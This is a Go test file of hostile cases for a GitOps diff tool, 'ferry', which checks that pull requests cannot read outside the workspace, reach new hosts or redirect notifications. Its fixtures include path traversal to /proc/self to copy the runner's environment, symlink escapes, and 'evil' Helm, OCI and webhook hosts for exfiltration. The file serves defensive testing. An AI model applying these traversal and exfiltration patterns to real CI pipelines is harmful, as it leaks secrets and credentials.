package main

import (
	"testing"
)

// Issue 26, items 1, 2 and 4: a pull request cannot widen what ferry
// reads, which hosts it contacts or which Providers hear of it. The
// cases that are pull requests (head set) diff a base of the corpus
// repo with a head that tries; the others render a checkout whose own
// ferry.yaml (trusted, and wrong) reaches out.

// fleetRoot is a cluster root for the corpus repo: the flux-system sync,
// a Kustomization of app (the corpus's app folder) and of every extra
// manifest given, plus the extra files.
func fleetRoot(extra map[string]string) map[string]string {
	files := map[string]string{
		"ferry.yaml": "",
		"clusters/dev/sync.yaml": `apiVersion: source.toolkit.fluxcd.io/v1
kind: GitRepository
metadata: {name: flux-system, namespace: flux-system}
spec: {url: https://example.test/fleet, ref: {branch: main}}
---
apiVersion: kustomize.toolkit.fluxcd.io/v1
kind: Kustomization
metadata: {name: flux-system, namespace: flux-system}
spec: {path: ./clusters/dev, prune: true, sourceRef: {kind: GitRepository, name: flux-system}}
---
apiVersion: kustomize.toolkit.fluxcd.io/v1
kind: Kustomization
metadata: {name: app, namespace: flux-system}
spec: {path: ./app, prune: true, sourceRef: {kind: GitRepository, name: flux-system}}
`,
	}
	for k, v := range extra {
		files[k] = v
	}
	return files
}

// otherSource is a Kustomization rendering ./ of the GitRepository
// other, which ferry.yaml must map.
const otherSource = `apiVersion: source.toolkit.fluxcd.io/v1
kind: GitRepository
metadata: {name: other, namespace: flux-system}
spec: {url: https://example.test/other, ref: {branch: main}}
---
apiVersion: kustomize.toolkit.fluxcd.io/v1
kind: Kustomization
metadata: {name: other, namespace: flux-system}
spec: {path: ./, prune: true, sourceRef: {kind: GitRepository, name: other}}
`

// environGenerator is an ArtifactGenerator whose source is other and
// which copies its environ (the runner's environment, when other is
// /proc/self) into an artifact a Kustomization renders as a ConfigMap.
const environGenerator = `apiVersion: source.toolkit.fluxcd.io/v1
kind: GitRepository
metadata: {name: other, namespace: flux-system}
spec: {url: https://example.test/other, ref: {branch: main}}
---
apiVersion: source.extensions.fluxcd.io/v1beta1
kind: ArtifactGenerator
metadata: {name: gen, namespace: flux-system}
spec:
  sources: [{alias: other, kind: GitRepository, name: other}]
  artifacts:
    - name: leak
      copy: [{from: "@other/environ", to: "@artifact/environ"}, {from: "@other/cmdline", to: "@artifact/cmdline"}]
---
apiVersion: kustomize.toolkit.fluxcd.io/v1
kind: Kustomization
metadata: {name: leak, namespace: flux-system}
spec:
  path: ./
  sourceRef: {kind: ExternalArtifact, name: leak}
`

// leakKustomization is what the attacker's generator output would need
// to show the copied files: a kustomization.yaml in the artifact.
const leakKustomization = "configMapGenerator:\n  - name: env\n    files: [environ]\n"

// helmRelease is a HelmRelease app/web of chart web from the source
// given as its spec.chart.spec.sourceRef (or spec.chartRef).
func helmRelease(source string) string {
	return "apiVersion: helm.toolkit.fluxcd.io/v2\nkind: HelmRelease\nmetadata: {name: web, namespace: app}\nspec:\n" + source
}

// localChart is a chart folder of the repository and a release of it.
var localChart = map[string]string{
	"charts/web/Chart.yaml":        "apiVersion: v2\nname: web\nversion: 1.0.0\n",
	"charts/web/templates/cm.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: web}\ndata: {k: v}\n",
	"app/kustomization.yaml":       "resources: [deployment.yaml, secret.yaml, release.yaml]\n",
	"app/release.yaml":             helmRelease("  chart:\n    spec: {chart: ./charts/web, sourceRef: {kind: GitRepository, name: flux-system, namespace: flux-system}}\n"),
}

func withFiles(maps ...map[string]string) map[string]string {
	out := map[string]string{}
	for _, m := range maps {
		for k, v := range m {
			out[k] = v
		}
	}
	return out
}

// notifyFerry is a ferry.yaml with the target app and a generic
// Provider at addr, with the extra provider fields given.
func notifyFerry(addr, providerExtra string) string {
	return "targets:\n  - {name: app, path: app}\nnotifications:\n  providers:\n    - {name: hook, type: generic, address: \"" + addr + "\"" + providerExtra + "}\n" +
		"  alerts:\n    - {name: all, providerRef: {name: hook}, eventSources: [{kind: Kustomization, name: \"*\"}]}\n"
}

// changeApp is a head change to the corpus app: a new ConfigMap.
var changeApp = map[string]string{
	"app/kustomization.yaml": "resources: [deployment.yaml, secret.yaml, cm.yaml]\n",
	"app/cm.yaml":            "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: changed}\ndata: {k: v}\n",
}

// refusedHook is an address nothing listens on: a base Provider that
// cannot be reached (its delivery fails with a warning; the diff goes on).
const refusedHook = "http://127.0.0.1:1/hook"

func hostileReachCases() []hostileCase {
	diffNotify := []string{"diff", "--repo", "{{REPO}}", "--base", "HEAD~1", "--format", "json", "--notify"}
	return []hostileCase{
		// 1. Reads stay inside the workspace.
		{name: "sources to /proc/self", class: "reads", files: fleetRoot(map[string]string{
			"ferry.yaml": "sources:\n  other: ../../../../../../../../../../proc/self\n", "clusters/dev/gen.yaml": environGenerator}),
			want: []string{`ferry.yaml sources "other"`, "outside the workspace"}},
		{name: "sources to a folder beside the workspace", class: "reads", files: fleetRoot(map[string]string{
			"ferry.yaml": "sources:\n  other: ../../inner\n", "clusters/dev/other.yaml": otherSource}),
			setup: func(t *testing.T, c *hostileRun) {
				c.write(t, "../../inner/cm.yaml", "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: s}\n")
			},
			want: []string{`ferry.yaml sources "other": ../../inner`, "outside the workspace"}},
		{name: "sources through a symlink in the workspace", class: "reads", files: fleetRoot(map[string]string{
			"ferry.yaml": "sources:\n  other: ../link\n", "clusters/dev/other.yaml": otherSource}),
			setup: linkAt("{{CASE}}/home", "{{CASE}}/ws/link"),
			want:  []string{`ferry.yaml sources "other": ../link`, "outside the workspace"}},
		{name: "a sibling checkout outside a narrower --workspace", class: "reads", files: fleetRoot(map[string]string{
			"ferry.yaml": "sources:\n  other: ../sibling\n", "clusters/dev/other.yaml": otherSource}),
			setup: func(t *testing.T, c *hostileRun) {
				c.write(t, "../sibling/cm.yaml", "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: s}\n")
			},
			args: []string{"render", "--repo", "{{REPO}}", "--workspace", "{{REPO}}"},
			want: []string{`ferry.yaml sources "other": ../sibling`, "outside the workspace"}},
		{name: "GITHUB_WORKSPACE bounds the reads", class: "reads", files: fleetRoot(map[string]string{
			"ferry.yaml": "sources:\n  other: ../sibling\n", "clusters/dev/other.yaml": otherSource}),
			setup: func(t *testing.T, c *hostileRun) {
				c.write(t, "../sibling/cm.yaml", "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: s}\n")
			},
			env:  map[string]string{"GITHUB_WORKSPACE": "{{REPO}}"},
			want: []string{`ferry.yaml sources "other": ../sibling`, "outside the workspace"}},
		{name: "pull request maps a source to /proc/self and copies environ", class: "reads", succeeds: true,
			files: fleetRoot(nil),
			head: map[string]string{"ferry.yaml": "sources:\n  other: ../../../../../../../../../../proc/self\n",
				"clusters/dev/gen.yaml": environGenerator, "environ/kustomization.yaml": leakKustomization},
			wantOut: []string{"ferry.yaml changes sources: the diff uses the base's"}},
		{name: "pull request moves a source from a sibling to above the workspace", class: "reads", succeeds: true,
			files: fleetRoot(map[string]string{"ferry.yaml": "sources:\n  other: ../sibling\n", "clusters/dev/other.yaml": otherSource}),
			setup: func(t *testing.T, c *hostileRun) {
				c.write(t, "../sibling/cm.yaml", "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: s}\ndata: {k: v}\n")
				c.write(t, "../../inner/cm.yaml", "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: s}\ndata: {k: "+outsideCanary+"}\n")
			},
			head:    map[string]string{"ferry.yaml": "sources:\n  other: ../../inner\n", "app/cm.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\n"},
			wantOut: []string{"ferry.yaml changes sources: the diff uses the base's"}},
		{name: "chart folder of a source mapped outside", class: "reads",
			files: fleetRoot(withFiles(localChart, map[string]string{
				"ferry.yaml":       "sources:\n  other: ../../home\n",
				"app/release.yaml": helmRelease("  chart:\n    spec: {chart: ./etc, sourceRef: {kind: GitRepository, name: other, namespace: flux-system}}\n")})),
			want: []string{`ferry.yaml sources "other"`, "outside the workspace"}},

		// 2. No egress only the head asks for.
		{name: "pull request adds a HelmRepository", class: "egress", succeeds: true, files: fleetRoot(nil),
			head: withFiles(localChart, map[string]string{"app/release.yaml": helmRelease("  chart:\n    spec: {chart: web, version: 1.0.0, sourceRef: {kind: HelmRepository, name: evil, namespace: flux-system}}\n"),
				"clusters/dev/evil.yaml": "apiVersion: source.toolkit.fluxcd.io/v1\nkind: HelmRepository\nmetadata: {name: evil, namespace: flux-system}\nspec: {url: \"{{URL}}/charts\"}\n"}),
			wantOut: []string{"not rendered: new chart source {{URL}}/charts", "allow it in ferry.yaml on the base branch"}},
		{name: "pull request adds an OCIRepository chartRef", class: "egress", succeeds: true, files: fleetRoot(nil),
			head: withFiles(localChart, map[string]string{"app/release.yaml": helmRelease("  chartRef: {kind: OCIRepository, name: evil, namespace: flux-system}\n"),
				"clusters/dev/evil.yaml": "apiVersion: source.toolkit.fluxcd.io/v1\nkind: OCIRepository\nmetadata: {name: evil, namespace: flux-system}\nspec: {url: \"oci://{{HOST}}/charts/web\", ref: {tag: 1.0.0}, insecure: true}\n"}),
			wantOut: []string{"not rendered: new chart source oci://{{HOST}}/charts/web"}},
		{name: "pull request adds a HelmChart over a new HelmRepository", class: "egress", succeeds: true, files: fleetRoot(nil),
			head: withFiles(localChart, map[string]string{"app/release.yaml": helmRelease("  chartRef: {kind: HelmChart, name: web, namespace: flux-system}\n"),
				"clusters/dev/evil.yaml": "apiVersion: source.toolkit.fluxcd.io/v1\nkind: HelmRepository\nmetadata: {name: evil, namespace: flux-system}\nspec: {url: \"{{URL}}\", type: default}\n---\n" +
					"apiVersion: source.toolkit.fluxcd.io/v1\nkind: HelmChart\nmetadata: {name: web, namespace: flux-system}\nspec: {chart: web, version: 1.0.0, sourceRef: {kind: HelmRepository, name: evil}}\n"}),
			wantOut: []string{"not rendered: new chart source {{URL}}"}},
		{name: "pull request allows its own host", class: "egress", succeeds: true, files: fleetRoot(nil),
			head: withFiles(localChart, map[string]string{"ferry.yaml": "network:\n  allowHosts: [\"{{HOST}}\"]\n",
				"app/release.yaml":       helmRelease("  chart:\n    spec: {chart: web, version: 1.0.0, sourceRef: {kind: HelmRepository, name: evil, namespace: flux-system}}\n"),
				"clusters/dev/evil.yaml": "apiVersion: source.toolkit.fluxcd.io/v1\nkind: HelmRepository\nmetadata: {name: evil, namespace: flux-system}\nspec: {url: \"{{URL}}\"}\n"}),
			wantOut: []string{"ferry.yaml changes network: the diff uses the base's", "not rendered: new chart source {{URL}}"}},
		{name: "pull request moves a local chart to a remote one, in plan", class: "egress", succeeds: true, files: fleetRoot(localChart),
			head: map[string]string{"app/release.yaml": helmRelease("  chart:\n    spec: {chart: web, version: 1.0.0, sourceRef: {kind: HelmRepository, name: evil, namespace: flux-system}}\n"),
				"clusters/dev/evil.yaml": "apiVersion: source.toolkit.fluxcd.io/v1\nkind: HelmRepository\nmetadata: {name: evil, namespace: flux-system}\nspec: {url: \"{{URL}}\"}\n"},
			args:    []string{"plan", "--repo", "{{REPO}}", "--base", "HEAD~1"},
			wantOut: []string{`"app"`}},
		{name: "pull request adds a remote resource", class: "egress", files: fleetRoot(nil),
			head: map[string]string{"app/kustomization.yaml": "resources: [deployment.yaml, secret.yaml, {{URL}}/r.yaml]\n"},
			want: []string{"app"}, wantOut: []string{"app/kustomization.yaml", "remote location", "--allow-remote-bases"}},

		// 4. Notifications from the base's objects only.
		{name: "pull request adds a Provider in ferry.yaml", class: "notify", succeeds: true,
			files: map[string]string{"ferry.yaml": "targets:\n  - {name: app, path: app}\n"},
			head:  withFiles(changeApp, map[string]string{"ferry.yaml": notifyFerry("{{URL}}/hook", "")}), args: diffNotify},
		{name: "pull request moves the base's Provider", class: "notify", succeeds: true,
			files: map[string]string{"ferry.yaml": notifyFerry(refusedHook, "")},
			head:  withFiles(changeApp, map[string]string{"ferry.yaml": notifyFerry("{{URL}}/hook", "")}), args: diffNotify},
		{name: "pull request gives the base's Provider a proxy", class: "notify", succeeds: true,
			files: map[string]string{"ferry.yaml": notifyFerry(refusedHook, "")},
			head:  withFiles(changeApp, map[string]string{"ferry.yaml": notifyFerry(refusedHook, ", proxy: \"{{URL}}\"")}), args: diffNotify},
		{name: "pull request adds Flux Provider and Alert objects", class: "notify", succeeds: true, files: fleetRoot(nil),
			head: withFiles(changeApp, map[string]string{"clusters/dev/alerts.yaml": "apiVersion: notification.toolkit.fluxcd.io/v1beta3\nkind: Provider\nmetadata: {name: evil, namespace: flux-system}\nspec: {type: generic, address: \"{{URL}}/hook\"}\n---\n" +
				"apiVersion: notification.toolkit.fluxcd.io/v1beta3\nkind: Alert\nmetadata: {name: evil, namespace: flux-system}\nspec: {providerRef: {name: evil}, eventSources: [{kind: Kustomization, name: \"*\"}]}\n"}),
			args: diffNotify},
		{name: "pull request points the Provider's secret at its host", class: "notify", succeeds: true,
			files: map[string]string{"ferry.yaml": notifyFerry(refusedHook, "")},
			head: withFiles(changeApp, map[string]string{
				"ferry.yaml":    "targets:\n  - {name: app, path: app}\nnotifications:\n  providers:\n    - {name: hook, type: generic, secretRef: {name: hook}}\n  alerts:\n    - {name: all, providerRef: {name: hook}, eventSources: [{kind: Kustomization, name: \"*\"}]}\n",
				"app/hook.yaml": "apiVersion: v1\nkind: Secret\nmetadata: {name: hook, namespace: flux-system}\nstringData: {address: \"{{URL}}/hook\"}\n"}),
			args: diffNotify},
	}
}
